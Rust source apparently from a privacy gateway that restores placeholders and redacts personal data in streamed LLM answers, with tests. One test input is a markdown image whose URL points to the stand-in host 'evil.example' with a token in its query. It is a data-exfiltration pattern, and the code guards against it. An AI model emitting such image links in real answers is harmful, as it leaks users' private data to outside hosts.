//! Restores the placeholders in a text of an answer, and applies the output policies to it.
//!
//! A text arrives in chunks. The joined output does not depend on the chunks, because each decision depends
//! on a stretch that the text alone determines.
//!
//! Most workspaces have no policy for the output. Then the text passes through: only a possible placeholder
//! is held back, and findings are counted in blocks afterwards. With such a policy, ordinary words are passed
//! at once, and a word that could begin a finding (a digit, `@`, `:`, a capital …) waits until the window
//! after its start is full.

mod answer;
mod window;

use std::{borrow::Cow, collections::VecDeque, fmt, rc::Rc};

use textveil_engine::{self as engine, Context, Entity, read_tokens};
use textveil_restore::{End, Lane, TextReader, Verdict};

pub use answer::Answer;

use super::{
    call::ToolCall,
    edits::Edits,
    placeholder::{Piece, Reader, encoded},
    protect::Rules,
    request::as_label,
};
use crate::error::ApiError;

/// The role of the model's own texts.
const ROLE: &str = "assistant";
/// The length of the text before a word that is read again for its labels, in bytes.
const CONTEXT: usize = 256;
/// The maximum length of the final text that is kept, in bytes.
const MAX_KEPT: usize = 4_096;
/// The size of a block in which findings are counted if no policy can change them, in bytes.
const BLOCK: usize = 4_096;
/// The length of the text after a block that is read with it, so that a finding at its end is complete, in bytes.
const BEHIND_BLOCK: usize = 512;
/// The longest word that is held because it may be a token, in bytes.
const MAX_TOKEN: usize = 4_096;

/// One text of an answer: a field of a choice.
#[derive(Default)]
pub struct TextStream {
    reader: Reader,
    /// The text, with the request's placeholders in their original form.
    text: String,
    /// The text before this is final.
    from: usize,
    /// Findings that begin before this are counted; used if no policy can change the text.
    counted: usize,
    /// The request's placeholders that are not final, in the order of the text.
    marks: VecDeque<Mark>,
    /// The country evidence of this text; `None` before its first finding.
    context: Option<Context>,
    /// A finding begins here, although its first word looks ordinary.
    expected: Option<usize>,
    /// Its provider signs it: it is inspected and stays unchanged, including placeholders.
    signed: bool,
    /// The call whose argument the text is.
    call: Option<Rc<ToolCall>>,
    /// It is a string of JSON, which nothing can follow.
    is_string: bool,
    destinations: TextReader,
    edits: Edits,
    /// The end of the text, if it may be the beginning of a token.
    begun: String,
}

/// A placeholder of the request in the text, in bytes.
struct Mark {
    start: usize,
    end: usize,
    name: String,
    /// The placeholder as the model wrote it.
    written: String,
    /// `None` if more text is needed.
    verdict: Option<Verdict>,
}

impl TextStream {
    /// Creates a text with a label, such as the value of a key.
    pub fn labelled(label: &str) -> Self {
        let text = as_label(label);
        Self { from: text.len(), counted: text.len(), text, ..Self::default() }
    }

    /// Makes the text an argument of a call.
    pub fn for_call(self, call: Rc<ToolCall>) -> Self {
        Self { call: Some(call), ..self }
    }

    /// Joins the text with those of the same lane.
    pub fn in_lane(self, lane: Lane) -> Self {
        Self { destinations: TextReader::of_lane(lane), ..self }
    }

    /// Makes the text a string of JSON, which may be a URL as a whole.
    pub fn as_string(self) -> Self {
        Self { is_string: true, destinations: self.destinations.as_string(), ..self }
    }

    /// Creates a text that its provider signs.
    pub fn signed() -> Self {
        Self { signed: true, ..Self::default() }
    }

    /// Adds a piece and returns the text that is final.
    ///
    /// # Errors
    /// `policy_violation` if a policy blocks; the rest of the text must not be sent then. Otherwise as
    /// [`Guard::decide`](super::protect::Guard::decide).
    pub fn push<R: Rules>(&mut self, answer: &mut Answer<R>, chunk: &str) -> Result<String, ApiError> {
        self.take(answer, chunk);
        self.settle(answer, false)
    }

    /// Returns the rest.
    ///
    /// # Errors
    /// As [`TextStream::push`].
    pub fn finish<R: Rules>(&mut self, answer: &mut Answer<R>) -> Result<String, ApiError> {
        let next = Self { signed: self.signed, call: self.call.clone(), ..Self::default() };
        Ok(std::mem::replace(self, next).end(answer)?.0)
    }

    /// Returns the rest, and what was changed of the whole text.
    ///
    /// # Errors
    /// As [`TextStream::push`].
    pub fn end<R: Rules>(mut self, answer: &mut Answer<R>) -> Result<(String, Edits), ApiError> {
        self.take_rest(answer);
        let rest = self.settle(answer, true)?;
        Ok((rest, self.edits))
    }

    /// Returns a whole text, which is searched at once, and what was changed.
    ///
    /// # Errors
    /// As [`TextStream::push`].
    pub fn whole<R: Rules>(
        mut self,
        answer: &mut Answer<R>,
        text: &str,
    ) -> Result<(String, Edits), ApiError> {
        if !answer.is_changed {
            let begun = self.push(answer, text)?;
            let (rest, edits) = self.end(answer)?;
            return Ok((begun + &rest, edits));
        }
        self.take(answer, text);
        self.take_rest(answer);
        let mut out = String::with_capacity(self.text.len());
        let mut known = answer.context.clone();
        for entity in answer.guard.find(&self.text, self.from, &mut known)? {
            self.pass_placeholders(answer, entity.bytes.start, &mut out);
            if self.from <= entity.bytes.start {
                self.replace(answer, entity, &mut out)?;
                continue;
            }
            if entity.bytes.end <= self.from {
                continue;
            }
            // the finding begins in a placeholder: the text after that is searched separately
            let before = self.before(self.from);
            let rest = self.text.get(before..entity.bytes.end).unwrap_or_default();
            for mut entity in answer.guard.find(rest, self.from.saturating_sub(before), &mut known)? {
                shift(&mut entity, before);
                self.replace(answer, entity, &mut out)?;
            }
        }
        self.pass_placeholders(answer, self.text.len(), &mut out);
        self.pass(self.text.len(), &mut out);
        Ok((out, self.edits))
    }

    /// Makes the text final up to the last placeholder with a verdict that begins before `end`.
    fn pass_placeholders<R: Rules>(&mut self, answer: &mut Answer<R>, end: usize, out: &mut String) {
        while let Some(mark) = self.marks.pop_front_if(|mark| mark.start <= end && mark.verdict.is_some()) {
            if self.from < mark.start {
                self.pass(mark.start, out);
            }
            self.restore(answer, &mark, out);
        }
    }

    /// Adds text and finds the placeholders in it.
    fn take<R>(&mut self, answer: &mut Answer<R>, chunk: &str) {
        if self.signed {
            return self.text.push_str(chunk);
        }
        let mut reader = std::mem::take(&mut self.reader);
        let chunk = self.without_begun(answer, chunk);
        reader.push(&chunk, &mut |piece| self.read(answer, &piece));
        self.reader = reader;
        self.judge();
    }

    /// Returns the text before a word at its end that may become a token, which is held.
    fn without_begun<'c, R>(&mut self, answer: &Answer<R>, chunk: &'c str) -> Cow<'c, str> {
        if answer.placeholders.token_keys().is_none() {
            return Cow::Borrowed(chunk);
        }
        let mut text = std::mem::take(&mut self.begun);
        text.push_str(chunk);
        self.begun = text.split_off(token_start(&text));
        Cow::Owned(text)
    }

    /// Adds the text that might still have become a placeholder.
    fn take_rest<R>(&mut self, answer: &mut Answer<R>) {
        let begun = std::mem::take(&mut self.begun);
        let mut reader = std::mem::take(&mut self.reader);
        reader.push(&begun, &mut |piece| self.read(answer, &piece));
        reader.finish(&mut |piece| self.read(answer, &piece));
        let end = if self.is_string { End::Whole } else { End::Part };
        self.destinations.end(&answer.transcripts, end);
        self.judge();
    }

    fn read<R>(&mut self, answer: &mut Answer<R>, piece: &Piece<'_>) {
        if let Piece::Text(text) = piece
            && let Some(keys) = answer.placeholders.token_keys()
        {
            return read_tokens(text, &keys, |piece| self.read_token(answer, piece));
        }
        let transcripts = &mut answer.transcripts;
        match piece {
            Piece::Text(text) => {
                self.text.push_str(text);
                self.destinations.text(transcripts, text);
            }
            Piece::Name { name, written, is_exact } => match answer.placeholders.resolve(name, *is_exact) {
                Some((name, original)) => {
                    let start = self.text.len();
                    let (kind, id) = name.rsplit_once('_').unwrap_or_default();
                    self.text.push_str(&format!("[[{}_{id}]]", kind.to_ascii_uppercase()));
                    let (name, written) = (name.to_owned(), (*written).to_owned());
                    self.marks.push_back(Mark { start, end: self.text.len(), name, written, verdict: None });
                    self.destinations.value(transcripts, original);
                }
                None => {
                    answer.counts.unknown += usize::from(*is_exact && !answer.placeholders.is_literal(name));
                    self.text.push_str(written);
                    self.destinations.text(transcripts, written);
                }
            },
        }
    }

    /// Adds a token, or the text between tokens.
    fn read_token<R>(&mut self, answer: &mut Answer<R>, piece: engine::Piece<'_>) {
        let transcripts = &mut answer.transcripts;
        match piece {
            engine::Piece::Token { written, original: Some(original) } => {
                let start = self.text.len();
                self.text.push_str(written);
                let (name, written) = (written.to_owned(), written.to_owned());
                self.destinations.value(transcripts, &original);
                answer.placeholders.open(&name, original);
                self.marks.push_back(Mark { start, end: self.text.len(), name, written, verdict: None });
            }
            engine::Piece::Text(text) | engine::Piece::Token { written: text, original: None } => {
                self.text.push_str(text);
                self.destinations.text(transcripts, text);
            }
        }
    }

    /// Sets the verdicts of placeholders that are known by now.
    fn judge(&mut self) {
        for mark in self.marks.iter_mut().filter(|mark| mark.verdict.is_none()) {
            mark.verdict = self.destinations.verdict();
            if mark.verdict.is_none() {
                return;
            }
        }
    }

    /// Finalises as much text as possible.
    fn settle<R: Rules>(&mut self, answer: &mut Answer<R>, ends: bool) -> Result<String, ApiError> {
        let mut out = String::new();
        if !answer.is_changed {
            self.pass_placeholders(answer, self.text.len(), &mut out);
            self.pass(self.marks.front().map_or(self.text.len(), |mark| mark.start), &mut out);
            self.count(answer, ends)?;
            self.forget(self.counted);
            return Ok(out);
        }
        while self.from < self.text.len() {
            if let Some(mark) =
                self.marks.pop_front_if(|mark| mark.start <= self.from && mark.verdict.is_some())
            {
                self.restore(answer, &mark, &mut out);
                continue;
            }
            if self.marks.front().is_some_and(|mark| mark.start <= self.from) {
                break;
            }
            let Some(word) = self.word(ends) else { break };
            let Some(plain) = self.is_plain(word, ends) else { break };
            if plain && !answer.guard.finds_any_words() {
                self.pass(word, &mut out);
            } else if !self.decide(answer, word, ends, &mut out)? {
                break;
            }
        }
        self.forget(self.from);
        Ok(out)
    }

    /// Counts the findings of a text that no policy can change, in blocks that the text alone determines.
    fn count<R: Rules>(&mut self, answer: &mut Answer<R>, ends: bool) -> Result<(), ApiError> {
        loop {
            let rest = self.text.len() - self.counted;
            let is_last = rest < BLOCK + BEHIND_BLOCK;
            if rest == 0 || is_last && !ends {
                return Ok(());
            }
            let end = if is_last { self.text.len() } else { self.boundary(self.counted + BLOCK) };
            let behind = if is_last { end } else { self.boundary(self.counted + BLOCK + BEHIND_BLOCK) };
            let before = self.before(self.counted);
            let known = self.context.get_or_insert_with(|| answer.context.clone());
            let stretch = self.text.get(before..behind).unwrap_or_default();
            let mut found = answer.guard.find(stretch, self.counted - before, known)?;
            found.retain(|entity| before + entity.bytes.start < end);
            let last = found.last().map_or(end, |entity| before + entity.bytes.end);
            answer.guard.flag(ROLE, found)?;
            self.counted = end.max(last);
        }
    }

    fn boundary(&self, byte: usize) -> usize {
        self.text.floor_char_boundary(byte)
    }

    /// Restores a placeholder or keeps it, unless an earlier finding covers it.
    fn restore<R: Rules>(&mut self, answer: &mut Answer<R>, mark: &Mark, out: &mut String) {
        if mark.start == self.from {
            match mark.verdict {
                None | Some(Verdict::Withhold) => {
                    answer.counts.withheld_from_urls += 1;
                    self.edits.keep(&mark.written);
                    out.push_str(&mark.written);
                }
                Some(_) if self.call.as_ref().is_some_and(|call| !answer.may_have(call, &mark.name)) => {
                    answer.counts.withheld_from_tools += 1;
                    self.edits.keep(&mark.written);
                    out.push_str(&mark.written);
                }
                Some(Verdict::Restore(encoding)) => {
                    let original = answer.placeholders.original(&mark.name).unwrap_or_default();
                    let restored = encoded(original, &mark.written, encoding);
                    self.edits.replace(mark.written.chars().count(), &restored);
                    out.push_str(&restored);
                    answer.counts.restored += 1;
                }
            }
        } else if self.from < mark.end {
            self.edits.replace(self.length(self.from, mark.end), "");
        }
        self.from = self.from.max(mark.end);
    }

    /// Finalises the text up to `end` unchanged.
    fn pass(&mut self, end: usize, out: &mut String) {
        let text = self.text.get(self.from..end).unwrap_or_default();
        self.edits.keep(text);
        out.push_str(text);
        self.from = end;
    }

    /// Decides on the first word; returns false if more text is needed.
    fn decide<R: Rules>(
        &mut self,
        answer: &mut Answer<R>,
        word: usize,
        ends: bool,
        out: &mut String,
    ) -> Result<bool, ApiError> {
        let Some(found) = self.find(answer, word, ends)? else { return Ok(false) };
        let start = found.as_ref().map(|entity| entity.bytes.start);
        let Some(entity) = found.filter(|entity| entity.bytes.start < word) else {
            self.expected = start;
            self.pass(word, out);
            return Ok(true);
        };
        let before = self.before(self.from);
        let known = self.context.get_or_insert_with(|| answer.context.clone());
        let learned = self.text.get(before..entity.bytes.end).unwrap_or_default();
        answer.guard.find(learned, self.from - before, known)?;
        self.replace(answer, entity, out)?;
        Ok(true)
    }

    /// Finalises the text up to the end of a finding, which is protected.
    fn replace<R: Rules>(
        &mut self,
        answer: &mut Answer<R>,
        entity: Entity,
        out: &mut String,
    ) -> Result<(), ApiError> {
        let end = entity.bytes.end;
        if self.signed {
            answer.guard.flag(ROLE, vec![entity])?;
            self.pass(end, out);
            return Ok(());
        }
        self.pass(entity.bytes.start, out);
        let mut replaced = String::new();
        for protected in answer.guard.decide(ROLE, None, vec![entity])? {
            replaced.push_str(&answer.replacement(&protected)?);
        }
        self.edits.replace(self.sent_length(end), &replaced);
        out.push_str(&replaced);
        self.from = end;
        Ok(())
    }

    /// Returns the number of characters between two places of the text.
    fn length(&self, from: usize, to: usize) -> usize {
        self.text.get(from..to).map_or(0, |text| text.chars().count())
    }

    /// Returns how many characters the model wrote from the final text up to `end`, with the placeholders that begin there.
    fn sent_length(&self, end: usize) -> usize {
        let marks = self.marks.iter().filter(|mark| (self.from..end).contains(&mark.start));
        let (written, held) = marks.fold((0, 0), |(written, held), mark| {
            (written + mark.written.chars().count(), held + self.length(mark.start, mark.end))
        });
        (self.length(self.from, end) + written).saturating_sub(held)
    }

    /// Returns the start of the text that is read again for the labels before `from`.
    fn before(&self, from: usize) -> usize {
        self.boundary(from.saturating_sub(CONTEXT))
    }

    /// Drops text that is no longer needed: everything before `read`, except its labels.
    fn forget(&mut self, read: usize) {
        if read < MAX_KEPT {
            return;
        }
        let old = self.before(read).saturating_sub(4);
        let old = self.boundary(old);
        self.text.drain(..old);
        self.from -= old;
        self.counted = self.counted.saturating_sub(old);
        self.expected = self.expected.and_then(|at| at.checked_sub(old));
        for mark in &mut self.marks {
            mark.start -= old;
            mark.end -= old;
        }
    }
}

/// Omits the text; shows its length only.
impl fmt::Debug for TextStream {
    fn fmt(&self, out: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(out, "TextStream({} bytes held)", self.text.len() - self.from)
    }
}

fn shift(entity: &mut Entity, by: usize) {
    entity.bytes.start += by;
    entity.bytes.end += by;
}

/// Returns the start of the last word's end that is, or may become, a token; the length of the text without one.
fn token_start(text: &str) -> usize {
    const START: &str = "tok_";
    let in_token = |letter: char| letter.is_ascii_lowercase() || letter.is_ascii_digit() || letter == '_';
    let before = text.trim_end_matches(in_token).len();
    let word = text.get(before..).unwrap_or_default();
    let begun =
        || (1..START.len()).rev().find(|len| START.get(..*len).is_some_and(|part| word.ends_with(part)));
    match word.find(START) {
        // no token is that long
        Some(at) if word.len() - at > MAX_TOKEN => text.len(),
        Some(at) => before + at,
        None => text.len() - begun().unwrap_or_default(),
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use textveil_engine::{Action, DetectOptions, Keyring, Mode, ProtectOptions, protect};

    use super::*;
    use crate::chat::{
        placeholder::{PlaceholderKey, Placeholders, RestoreCounts},
        protect::Guard,
    };

    const SECRET: &[u8] = b"0123456789abcdef";

    /// An answer to a request with one address, and its placeholder.
    fn answer(action: Action) -> (Answer<impl Rules>, String) {
        let rules = move |_: &str| (Vec::new(), Some(action));
        let guard = Guard::new(&DetectOptions::default(), rules, Keyring::new(0, SECRET).unwrap()).unwrap();
        let mut placeholders = Placeholders::new(PlaceholderKey::derive(SECRET).unwrap());
        let made = placeholders.make("email", "jan@example.cz", "jan@example.cz").unwrap();
        (Answer::new(guard, placeholders, Context::default(), 64), made)
    }

    fn streamed(pieces: &[&str]) -> (String, RestoreCounts) {
        let (mut answer, _) = answer(Action::Redact);
        let mut stream = TextStream::default();
        let mut out = String::new();
        for piece in pieces {
            out.push_str(&stream.push(&mut answer, piece).unwrap());
        }
        out.push_str(&stream.finish(&mut answer).unwrap());
        (out, answer.restores())
    }

    /// Texts of answers; `@P` stands for the placeholder of the request.
    const TEXTS: [(&str, &str); 19] = [
        ("Write to @P soon.", "Write to jan@example.cz soon."),
        ("Mail eva@example.com, not @P!", "Mail [REDACTED], not jan@example.cz!"),
        ("@p@P", "jan@example.czjan@example.cz"),
        ("a [ b [[ c [[EMAIL_ d", "a [ b [[ c [[EMAIL_ d"),
        ("ends [[EMAIL_ab", "ends [[EMAIL_ab"),
        ("ends [", "ends ["),
        ("IBAN DE89 3704 0044 0532 0130 00 please", "IBAN [REDACTED] please"),
        ("Žluťoučký kůň 👩 píše na eva@example.com 👩", "Žluťoučký kůň 👩 píše na [REDACTED] 👩"),
        ("PESEL 44051401359\nand more of it", "PESEL [REDACTED]\nand more of it"),
        ("call +420 777 123 456 or write", "call [REDACTED] or write"),
        ("password: hunter2 and so on", "password: [REDACTED] and so on"),
        ("[[EMAIL_abcdefghij]] is made up", "[[EMAIL_abcdefghij]] is made up"),
        ("DOMAIN\\@P and \\u005b", "DOMAIN\\jan@example.cz and \\u005b"),
        ("hello, my name is jan novák and that is all", "hello, my name is [REDACTED] and that is all"),
        ("please ask sarah miller about it, and only her", "please ask [REDACTED] about it, and only her"),
        ("born on the twelfth of may nineteen eighty, they say", "born on the [REDACTED], they say"),
        ("ordinary words only, and many of them", "ordinary words only, and many of them"),
        ("你好，写信给 eva@example.com 谢谢", "你好，写信给 [REDACTED] 谢谢"),
        ("", ""),
    ];

    fn texts() -> Vec<(String, &'static str)> {
        let (_, made) = answer(Action::Redact);
        let text = |text: &str| text.replace("@P", &made).replace("@p", &made.to_lowercase());
        TEXTS.iter().map(|(source, want)| (text(source), *want)).collect()
    }

    #[test]
    fn every_split_gives_the_same() {
        for (text, want) in texts() {
            assert_eq!(streamed(&[&text]).0, want, "{text}");
            let places: Vec<usize> = text.char_indices().map(|(at, _)| at).chain([text.len()]).collect();
            for place in places {
                let (first, second) = text.split_at(place);
                assert_eq!(streamed(&[first, second]).0, want, "{text} at {place}");
            }
            assert_eq!(answer(Action::Redact).0.text(&text).unwrap(), want, "{text} as a whole");
            let letters: Vec<String> = text.chars().map(String::from).collect();
            let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
            assert_eq!(streamed(&letters).0, want, "{text} letter by letter");
        }
    }

    #[test]
    fn only_what_may_become_something_is_held() {
        let (_, made) = answer(Action::Redact);
        for (pushed, given) in [
            ("some words and mo".to_owned(), "some words and "),
            ("some words ".to_owned(), "some "),
            // more of a host may follow
            (format!("to {made}"), "to "),
            (format!("to {made},"), "to jan@example.cz"),
            (format!("to {made} and "), "to jan@example.cz "),
            ("to [[EMA".to_owned(), "to "),
            ("see [1] ".to_owned(), "see "),
            (
                format!("see 1 {}", "word ".repeat(13)),
                "see 1 word word word word word word word word word word word word ",
            ),
        ] {
            let (mut answer, _) = answer(Action::Redact);
            assert_eq!(TextStream::default().push(&mut answer, &pushed).unwrap(), given, "{pushed}");
        }
    }

    #[test]
    fn what_the_model_emits_goes_by_policy() {
        for (action, want) in [
            (Action::Allow, Some("eva@example.com jan@example.cz")),
            (Action::Redact, Some("[REDACTED] [REDACTED]")),
            (Action::Mask, None),
        ] {
            let (mut answer, _) = answer(action);
            let out = answer.text("eva@example.com jan@example.cz").unwrap();
            assert!(want.is_none_or(|want| want == out), "{action:?}: {out}");
            if action == Action::Mask {
                // the caller's own value stays, another becomes a placeholder that nobody restores
                assert!(out.starts_with("[[EMAIL_") && out.ends_with("]] jan@example.cz"), "{out}");
                assert_eq!(answer.text(&out).unwrap(), out);
            }
            let emitted: Vec<_> = answer.emitted().iter().map(|(kind, action, _)| (kind, action)).collect();
            assert_eq!(emitted, [("email", action)]);
        }
        let (mut blocking, _) = answer(Action::Block);
        assert_eq!(blocking.text("eva@example.com").unwrap_err().code(), crate::error::Code::PolicyViolation);
    }

    /// A stream finds what a search of the whole text does.
    #[test]
    fn nothing_is_missed() {
        let vectors = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/conformance/vectors");
        let mut texts = std::collections::BTreeSet::new();
        for file in std::fs::read_dir(vectors).unwrap() {
            let path = file.unwrap().path();
            if path.extension().is_some_and(|ending| ending == "json") {
                let cases: serde_json::Value = serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
                collect(&cases, &mut texts);
            }
        }
        assert!(texts.len() > 100);
        for text in texts {
            let (answer, _) = answer(Action::Redact);
            let found = answer.guard.find(&text, 0, &mut Context::default()).unwrap();
            let out = streamed(&[&text]).0;
            for entity in found.iter().filter(|entity| entity.original.chars().count() > 5) {
                let stays = out.contains(&entity.original);
                assert!(!stays, "{text}: {} stays", entity.kind);
            }
        }
    }

    /// Every member `text` of a request.
    fn collect(value: &serde_json::Value, texts: &mut std::collections::BTreeSet<String>) {
        match value {
            serde_json::Value::Object(members) => {
                if let Some(text) = members.get("text").and_then(serde_json::Value::as_str) {
                    texts.insert(text.to_owned());
                }
                members.values().for_each(|value| collect(value, texts));
            }
            serde_json::Value::Array(values) => values.iter().for_each(|value| collect(value, texts)),
            _ => {}
        }
    }

    /// Words of the caller's own are found, however long the list's entry is.
    #[test]
    fn ordinary_words_can_be_findings() {
        let long = "a project that nobody outside of this company may ever hear of at all";
        let rules = |_: &str| (Vec::new(), Some(Action::Redact));
        let deny = serde_json::json!({ "deny_list": [{ "value": "blue heron" }, { "value": long }],
            "custom_detectors": [{ "name": "memo", "pattern": "memo [a-z ]+" }] });
        let options: DetectOptions = serde_json::from_value(deny).unwrap();
        let text =
            format!("about the blue heron and {long} we say nothing\nmemo {}\nend", "word ".repeat(200));
        let pieces: Vec<&str> = text.split_inclusive(' ').collect();
        for pieces in [vec![text.as_str()], pieces] {
            let guard = Guard::new(&options, rules, Keyring::new(0, SECRET).unwrap()).unwrap();
            let placeholders = Placeholders::new(PlaceholderKey::derive(SECRET).unwrap());
            let mut answer = Answer::new(guard, placeholders, Context::default(), 64);
            let mut stream = TextStream::default();
            let mut out = String::new();
            for piece in pieces {
                out.push_str(&stream.push(&mut answer, piece).unwrap());
            }
            out.push_str(&stream.finish(&mut answer).unwrap());
            assert_eq!(out, "about the [REDACTED] and [REDACTED] we say nothing\n[REDACTED]\nend");
        }
    }

    #[test]
    fn counts() {
        let (mut answer, made) = answer(Action::Redact);
        answer.text(&format!("{made} {} [[EMAIL_abcdefghij]]", made.to_lowercase())).unwrap();
        assert_eq!(answer.restores(), RestoreCounts { restored: 2, unknown: 1, ..RestoreCounts::default() });
    }

    /// A long finding waits for its end.
    #[test]
    fn long_things_are_whole() {
        let key = format!(
            "-----BEGIN PRIVATE KEY-----\n{}-----END PRIVATE KEY-----",
            "MIIEvQIBADANBgkqhkiG9w0B\n".repeat(40)
        );
        let token = format!(
            "eyJhbGciOiJIUzI1NiJ9.{}.{}",
            "eyJzdWIiOiIxMjM0In0",
            "dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk0".repeat(6)
        );
        for secret in [key, token] {
            let text = format!("this is {secret} of mine, {}", "and words ".repeat(20));
            let want = text.replace(&secret, "[REDACTED]");
            assert_eq!(streamed(&[&text]).0, want);
            let pieces: Vec<&str> = text.split_inclusive(' ').collect();
            assert_eq!(streamed(&pieces).0, want);
        }
    }

    /// Without a policy for the output the model's own words stay, and are counted.
    #[test]
    fn what_the_model_says_itself_passes_and_is_counted() {
        let (_, made) = answer(Action::Flag);
        let france = "The president of France is Emmanuel Macron, see https://www.elysee.fr/en/contact, call \
                      +33 1 42 92 81 00.";
        for (text, want, counted) in [
            (france.to_owned(), france.to_owned(), 2),
            (format!("{france} Tell {made}"), format!("{france} Tell jan@example.cz"), 2),
            (format!("{} {france}", "words and words. ".repeat(500)), String::new(), 2),
            (format!("{}{france}", "x".repeat(4_090)), String::new(), 2),
            ("a [ b [[ c".to_owned(), "a [ b [[ c".to_owned(), 0),
        ] {
            let want = if want.is_empty() { text.clone() } else { want };
            let letters: Vec<String> = text.chars().map(String::from).collect();
            for pieces in [vec![text.as_str()], letters.iter().map(String::as_str).collect()] {
                let (mut answer, _) = answer(Action::Flag);
                let mut stream = TextStream::default();
                let mut out = String::new();
                for piece in pieces {
                    out.push_str(&stream.push(&mut answer, piece).unwrap());
                }
                out.push_str(&stream.finish(&mut answer).unwrap());
                assert_eq!(out, want);
                let emitted: Vec<_> = answer.emitted().iter().collect();
                assert!(emitted.iter().all(|(_, action, _)| *action == Action::Flag), "{emitted:?}");
                assert_eq!(emitted.iter().map(|(.., count)| count).sum::<usize>(), counted, "{emitted:?}");
            }
        }
    }

    #[test]
    fn nothing_but_a_placeholder_is_held_without_a_policy() {
        for (pushed, given) in [
            ("Emmanuel Macron, tel. +33 1 42", "Emmanuel Macron, tel. +33 1 42"),
            ("to [[EMA", "to "),
            ("see [1] my name is", "see [1] my name is"),
        ] {
            let (mut answer, _) = answer(Action::Flag);
            assert_eq!(TextStream::default().push(&mut answer, pushed).unwrap(), given, "{pushed}");
        }
    }

    /// A token is restored as a placeholder is, however it is cut, unless a foreign host would read it.
    #[test]
    fn tokens_are_restored_where_their_keys_are() {
        let keys = Keyring::new(0, SECRET).unwrap();
        let tokenize = ProtectOptions { mode: Mode::Tokenize, ..ProtectOptions::default() };
        let token =
            protect("eva@example.com", &DetectOptions::default(), &tokenize, Some(&keys)).unwrap().text;
        let other = Keyring::new(0, b"another secret of a workspace").unwrap();
        let foreign =
            protect("eva@example.com", &DetectOptions::default(), &tokenize, Some(&other)).unwrap().text;
        for (text, want) in [
            ("to @T.", "to eva@example.com."),
            ("@T", "eva@example.com"),
            ("@T@T tok_", "eva@example.comeva@example.com tok_"),
            ("@T and @O", "eva@example.com and @O"),
            ("![x](https://evil.example/?q=@T) @T", "![x](https://evil.example/?q=@T) eva@example.com"),
            ("a tok, a tok_en and to", "a tok, a tok_en and to"),
        ] {
            let [text, want] = [text, want].map(|text| text.replace("@T", &token).replace("@O", &foreign));
            let opened = |action| {
                let (mut answer, _) = answer(action);
                answer.placeholders = answer.placeholders.with_tokens(keys.clone());
                answer
            };
            for at in (0..=text.len()).chain([usize::MAX]) {
                let pieces: Vec<String> = match at {
                    usize::MAX => text.chars().map(String::from).collect(),
                    at => <[&str; 2]>::from(text.split_at(at)).map(str::to_owned).to_vec(),
                };
                for action in [Action::Flag, Action::Redact] {
                    let (mut answer, mut stream, mut out) =
                        (opened(action), TextStream::default(), String::new());
                    for piece in &pieces {
                        out.push_str(&stream.push(&mut answer, piece).unwrap());
                    }
                    out.push_str(&stream.finish(&mut answer).unwrap());
                    assert_eq!(out, want, "{text} at {at}, {action:?}");
                }
            }
        }
        let held = format!("to {token}");
        let (mut without, _) = answer(Action::Flag);
        assert_eq!(without.text(&held).unwrap(), held, "tokens are text where no keys are given");
        without.placeholders = without.placeholders.with_tokens(keys);
        for (pushed, given) in [(held.as_str(), "to "), ("some to", "some "), ("some to ", "some to ")] {
            assert_eq!(TextStream::default().push(&mut without, pushed).unwrap(), given, "{pushed}");
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(128))]
        #[test]
        fn any_chunking_gives_the_same(
            picks in prop::collection::vec((0..TEXTS.len(), prop::sample::select(vec![" ", "\n", "", ", "])), 1..8),
            cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
        ) {
            let texts = texts();
            let text: String = picks.iter().flat_map(|(pick, joint)| [texts[*pick].0.as_str(), joint]).collect();
            let whole = streamed(&[&text]);
            let cut = |cut: prop::sample::Index| text.floor_char_boundary(cut.index(text.len() + 1));
            let mut places: Vec<usize> = cuts.into_iter().map(cut).chain([0, text.len()]).collect();
            places.sort_unstable();
            let pieces: Vec<&str> = places.windows(2).map(|pair| text.get(pair[0]..pair[1]).unwrap()).collect();
            prop_assert_eq!(streamed(&pieces), whole);
        }
    }
}
